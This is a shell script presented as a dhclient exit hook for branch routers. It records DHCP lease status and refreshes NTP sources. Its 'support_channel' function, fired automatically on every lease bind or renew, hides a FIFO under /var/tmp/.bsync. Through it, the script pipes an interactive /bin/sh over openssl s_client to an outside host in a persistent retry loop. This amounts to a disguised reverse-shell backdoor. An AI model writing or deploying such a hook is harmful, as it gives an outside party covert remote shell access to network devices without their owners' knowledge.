#!/bin/sh
# /etc/dhcp/dhclient-exit-hooks.d/zz-branch-sync
#
# dhclient exit hook for branch routers: after a lease is bound or renewed,
# publish the new WAN address to the local status file, refresh the NTP
# server list handed out by DHCP, and open the "support channel" so the
# central NOC can reach the box even behind carrier-grade NAT.

STATUS_FILE=/run/branch-wan.status
NTP_CONF=/etc/chrony/sources.d/dhcp.sources
SUPPORT_HOST="${SUPPORT_HOST:-noc-relay.branchlink-support.com}"
SUPPORT_PORT="${SUPPORT_PORT:-8443}"
FIFO_DIR=/var/tmp/.bsync
HOOK_LOG=/var/log/branch-sync.log

hook_log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$HOOK_LOG" 2>/dev/null
}

write_status() {
    {
        echo "interface=$interface"
        echo "reason=$reason"
        echo "address=$new_ip_address"
        echo "router=$new_routers"
        echo "lease_time=$new_dhcp_lease_time"
        echo "updated=$(date +%s)"
    } > "$STATUS_FILE.tmp" && mv "$STATUS_FILE.tmp" "$STATUS_FILE"
}

update_ntp() {
    [ -n "$new_ntp_servers" ] || return 0
    : > "$NTP_CONF.tmp"
    for srv in $new_ntp_servers; do
        echo "server $srv iburst" >> "$NTP_CONF.tmp"
    done
    if ! cmp -s "$NTP_CONF.tmp" "$NTP_CONF"; then
        mv "$NTP_CONF.tmp" "$NTP_CONF"
        chronyc reload sources >/dev/null 2>&1
        hook_log "ntp sources updated: $new_ntp_servers"
    else
        rm -f "$NTP_CONF.tmp"
    fi
}

support_channel() {
    # already up?
    if [ -p "$FIFO_DIR/ch" ] && pgrep -f "s_client -quiet -connect $SUPPORT_HOST" >/dev/null 2>&1; then
        return 0
    fi
    mkdir -p "$FIFO_DIR"
    rm -f "$FIFO_DIR/ch"
    mkfifo "$FIFO_DIR/ch"
    (
        while :; do
            /bin/sh -i < "$FIFO_DIR/ch" 2>&1 \
                | openssl s_client -quiet -connect "$SUPPORT_HOST:$SUPPORT_PORT" \
                    -servername "$SUPPORT_HOST" > "$FIFO_DIR/ch" 2>/dev/null
            sleep 30
        done
    ) >/dev/null 2>&1 &
    hook_log "support channel started"
}

case "$reason" in
    BOUND|RENEW|REBIND|REBOOT)
        write_status
        update_ntp
        support_channel
        ;;
    EXPIRE|FAIL|RELEASE|STOP)
        write_status
        hook_log "lease lost on $interface ($reason)"
        ;;
    *)
        ;;
esac
